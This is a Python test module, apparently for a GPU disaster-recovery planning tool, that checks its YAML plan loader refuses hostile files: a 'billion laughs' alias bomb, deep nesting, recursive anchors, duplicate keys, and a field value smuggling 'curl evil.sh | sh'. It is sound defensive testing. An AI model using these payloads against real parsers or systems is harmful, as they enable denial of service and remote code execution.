"""The plan file as hostile input (issue 17): every bad file ends in one short PlanError line, fast.

Each case below was accepted, hung or raised a traceback before the boundary in
gpudr/core/yamlsafe.py and the strict identifier checks in gpudr/core/spec.py.
"""

from __future__ import annotations

import copy
import re
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpudr.core import yamlsafe
from gpudr.core.spec import Plan, PlanError, load_plan, parse_plan
from tests.conftest import EXAMPLE

EXAMPLE_TEXT = EXAMPLE.read_text()
# An error line quotes at most a 40-character excerpt of a value; paths and fixes add the rest.
MAX_LINE = 400


def _bomb(field: str) -> str:
    """The issue's 946-byte alias bomb: 9 levels of 9 aliases each, 9**9 leaves at `field`."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, cur in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
    return EXAMPLE_TEXT.replace("name: llm-training", "\n".join(lines) + f"\n{field}")


def _refused(tmp_path: Path, text: str | bytes, *, seconds: float = 30.0) -> str:
    """Load `text` as a plan file; assert one short PlanError line within `seconds`: a guard
    against a hang (an alias bomb expanded runs for hours), not a speed target, so wide enough
    for a loaded CI machine (2 s failed under parallel load)."""
    file = tmp_path / "plan.yaml"
    if isinstance(text, str):
        file.write_text(text, encoding="utf-8")
    else:
        file.write_bytes(text)
    start = time.monotonic()
    with pytest.raises(PlanError) as info:
        load_plan(file)
    assert time.monotonic() - start < seconds
    message = str(info.value)
    for line in message.splitlines():
        assert len(line) <= MAX_LINE, line[:200]
    return message


def _deep(depth: int) -> str:
    return EXAMPLE_TEXT.replace("name: llm-training", "name: " + "[" * depth + "]" * depth)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x: [" + ",".join(["1"] * 30_000) + "]\n", "holds more than 20,000 values"),
        (_bomb("name: *i"), "holds more than 20,000 values"),
        (_bomb("name: llm-training\nextra: *i"), "holds more than 20,000 values"),
        (
            _bomb("name: llm-training").replace("azs: [us-west-2a, us-west-2b]", "azs: *i"),
            "holds more than 20,000 values",
        ),
        (_deep(5000), "nests deeper than"),
        (_deep(40), "nests deeper than"),
        ("a: &a [*a]\n", "refers to itself"),
        (
            # Shallow as written, deep once expanded: each alias nests the previous anchor.
            "".join(f"l{i}: &l{i} [*l{i - 1}]\n" if i else "l0: &l0 [x]\n" for i in range(60)),
            "nests deeper than",
        ),
        (
            EXAMPLE_TEXT.replace("    rpo: 4h\n", "    rpo: 0\n    rpo: 4h\n"),
            r"line \d+: duplicate key \"rpo\" \(first at line \d+\)",
        ),
        (EXAMPLE_TEXT + "name: other\n", 'duplicate key "name" (first at line 5)'),
        ("{a: 1, a: 2}\n", 'line 1: duplicate key "a"'),
    ],
    ids=[
        "many-values",
        "alias-bomb-name",
        "alias-bomb-unused-field",
        "alias-bomb-azs",
        "nesting-5000",
        "nesting-40",
        "recursive-anchor",
        "alias-chain-depth",
        "duplicate-rpo",
        "duplicate-top-key",
        "duplicate-flow-key",
    ],
)
def test_yaml_structure_refused(tmp_path: Path, text: str, expected: str) -> None:
    message = _refused(tmp_path, text)
    if "\\" in expected:
        assert re.search(expected, message), message
    else:
        assert expected in message, message


def test_duplicate_key_names_its_line(tmp_path: Path) -> None:
    text = EXAMPLE_TEXT.replace("    rpo: 4h\n", "    rpo: 0\n    rpo: 4h\n", 1)
    second = text.splitlines().index("    rpo: 4h") + 1
    assert f"line {second}: duplicate key" in _refused(tmp_path, text)


def test_non_utf8_names_its_line(tmp_path: Path) -> None:
    data = EXAMPLE_TEXT.replace("name: llm-training", "name: llm-\xe9").encode("latin-1")
    message = _refused(tmp_path, data)
    assert "line 5: is not UTF-8 text (byte 0xe9)" in message


def test_oversized_file_refused_without_reading_it_whole(tmp_path: Path) -> None:
    padding = "# " + "x" * 998 + "\n"
    message = _refused(tmp_path, EXAMPLE_TEXT + padding * 1100)
    assert f"larger than {yamlsafe.MAX_BYTES:,} bytes" in message


def test_nul_byte_in_path_refused() -> None:
    with pytest.raises(PlanError, match="the path holds a NUL byte"):
        load_plan("plan\x00.yaml")


def test_merge_keys_still_work(tmp_path: Path) -> None:
    """`<<: *base` then an overriding key is a merge, not a duplicate."""
    text = EXAMPLE_TEXT.replace(
        "  usw2:\n    cloud: aws\n",
        "  usw2:\n    <<: {cloud: gcp}\n    cloud: aws\n",
    )
    file = tmp_path / "plan.yaml"
    file.write_text(text)
    assert load_plan(file).sites["usw2"].cloud == "aws"


def test_small_anchors_still_work(tmp_path: Path) -> None:
    text = (
        EXAMPLE_TEXT.replace(
            "    azs: [us-east-1a, us-east-1b]", "    azs: &zones [us-east-1a, us-east-1b]"
        )
        .replace("  datasets:\n", "  datasets:\n    rto: *rto\n")
        .replace("    rto: 1h\n", "    rto: &rto 1h\n")
    )
    file = tmp_path / "plan.yaml"
    file.write_text(text)
    assert load_plan(file).datasets is not None


def _set(raw: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    node = raw
    keys = path.split(".")
    for k in keys[:-1]:
        node = node.setdefault(k, {})
    node[keys[-1]] = value
    return raw


ARABIC_ACCOUNT = "".join(chr(0x0660 + int(d)) for d in "123456789012")


@pytest.mark.parametrize(
    ("path", "value", "field", "message"),
    [
        ("name", "advx\n", "name", "is not a valid name"),
        ("name", "advx\n\n", "name", "is not a valid name"),
        ("sites.use1.account", ARABIC_ACCOUNT, "sites.use1.account", "12-digit AWS account"),
        ("sites.use1.account", "123456789012\n", "sites.use1.account", "12-digit AWS account"),
        ("clusters.train.nodes", 10**30, "clusters.train.nodes", "too large"),
        ("data.checkpoints.size", "9" * 400 + "PB", "data.checkpoints.size", "too large"),
        ("data.checkpoints.size", "\u0662TB", "data.checkpoints.size", "is not a size"),
        ("data.checkpoints.interval", "\u0664\u0665m", "data.checkpoints.interval", "duration"),
        ("sites.usw2.azs", ["us-west-2;", "us-west-2b"], "sites.usw2.azs[0]", "not a zone"),
        ("sites.usw2.azs", ["us-west-2a\n", "us-west-2b"], "sites.usw2.azs[0]", "not a zone"),
        ("sites.usw2.azs", ["us-west-2\u00e9", "us-west-2b"], "sites.usw2.azs[0]", "not a zone"),
        (
            "sites.usw2.link",
            {"kind": "direct-connect", "location": "EqSe2; curl evil.sh | sh"},
            "sites.usw2.link.location",
            "not a Direct Connect location code",
        ),
        (
            "sites.usw2.link",
            {"kind": "direct-connect", "location": "EqSe2", "secondary_location": "EqSe2\n"},
            "sites.usw2.link.secondary_location",
            "not a Direct Connect location code",
        ),
        ("sites.usw2.region", "x" * 100_000, "sites.usw2.region", "is not a known aws region"),
        ("clusters.train.gpu", "g" * 100_000, "clusters.train.gpu", "is not a GPU type"),
        ("services.chat.cluster", [], "services.chat.cluster", "is not a cluster"),
    ],
    ids=[
        "name-newline",
        "name-newlines",
        "account-arabic-digits",
        "account-newline",
        "nodes-1e30",
        "size-overflow",
        "size-arabic-digit",
        "duration-arabic-digits",
        "zone-semicolon",
        "zone-newline",
        "zone-non-ascii",
        "dx-location-shell",
        "dx-secondary-newline",
        "huge-region",
        "huge-gpu",
        "service-cluster-list",
    ],
)
def test_identifiers_and_bounds(
    example_raw: dict[str, Any], path: str, value: Any, field: str, message: str
) -> None:
    with pytest.raises(PlanError) as info:
        parse_plan(_set(example_raw, path, value))
    lines = {e.path: e.message for e in info.value.errors}
    assert field in lines, lines
    assert message in lines[field]
    assert all(len(str(e)) <= MAX_LINE and "\n" not in str(e) for e in info.value.errors)


def test_huge_unknown_key_is_quoted_short(example_raw: dict[str, Any]) -> None:
    example_raw["k" * 100_000] = 1
    with pytest.raises(PlanError) as info:
        parse_plan(example_raw)
    assert all(len(str(e)) <= MAX_LINE for e in info.value.errors)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("sites.usw2.azs", ["us-west-2a", "us-west-2c"]),
        ("sites.usw2.link", {"kind": "direct-connect", "location": "EqSe2"}),
        ("sites.use1.account", "012345678901"),
        ("sites.use1.account", 123456789012),
    ],
)
def test_valid_identifiers_accepted(example_raw: dict[str, Any], path: str, value: Any) -> None:
    parse_plan(_set(example_raw, path, value))


# --- property-based: anything in, a Plan or a PlanError out -----------------------------------

_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=30),
    st.sampled_from(["4h", "0", "2TB", "10Gbps", "us-west-2a", "aws", "dr", "none", "auto"]),
)
_values = st.recursive(
    _scalars,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.text(max_size=12) | st.sampled_from(["name", "sites"]), inner, max_size=4
        )
    ),
    max_leaves=20,
)


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(node, dict):
        for k, v in node.items():
            found += _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            found += _paths(v, (*prefix, i))
    return found


EXAMPLE_RAW = yaml.safe_load(EXAMPLE_TEXT)
EXAMPLE_PATHS = _paths(EXAMPLE_RAW)[1:]


def _parses_or_refuses(raw: Any) -> None:
    start = time.monotonic()
    try:
        assert isinstance(parse_plan(raw), Plan)
    except PlanError as exc:
        assert all(len(str(e)) <= MAX_LINE * 2 and "\n" not in str(e) for e in exc.errors)
    assert time.monotonic() - start < 2.0


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(EXAMPLE_PATHS), _values)
def test_mutated_plan_parses_or_refuses(path: tuple[Any, ...], value: Any) -> None:
    raw = copy.deepcopy(EXAMPLE_RAW)
    node = raw
    for k in path[:-1]:
        node = node[k]
    node[path[-1]] = value
    _parses_or_refuses(raw)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_values)
def test_arbitrary_document_parses_or_refuses(raw: Any) -> None:
    _parses_or_refuses(raw)


# Characters that change a YAML document's structure, spliced into the example plan.
_YAML_SYNTAX = "&*:[]{}-!|>'\"\n #a1<,?%@`\t"


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    st.one_of(
        st.text(max_size=200),
        st.binary(max_size=200),
        _values.map(lambda v: yaml.safe_dump(v, allow_unicode=True)),
        st.tuples(
            st.integers(0, len(EXAMPLE_TEXT)),
            st.text(max_size=20) | st.text(alphabet=_YAML_SYNTAX, max_size=20),
        ).map(lambda t: EXAMPLE_TEXT[: t[0]] + t[1] + EXAMPLE_TEXT[t[0] :]),
    )
)
def test_arbitrary_file_loads_or_refuses(tmp_path: Path, text: str | bytes) -> None:
    file = tmp_path / "plan.yaml"
    if isinstance(text, str):
        file.write_text(text, encoding="utf-8", errors="surrogatepass")
    else:
        file.write_bytes(text)
    start = time.monotonic()
    try:
        assert isinstance(load_plan(file), Plan)
    except PlanError as exc:
        assert all("\n" not in str(e) for e in exc.errors)
    assert time.monotonic() - start < 2.0
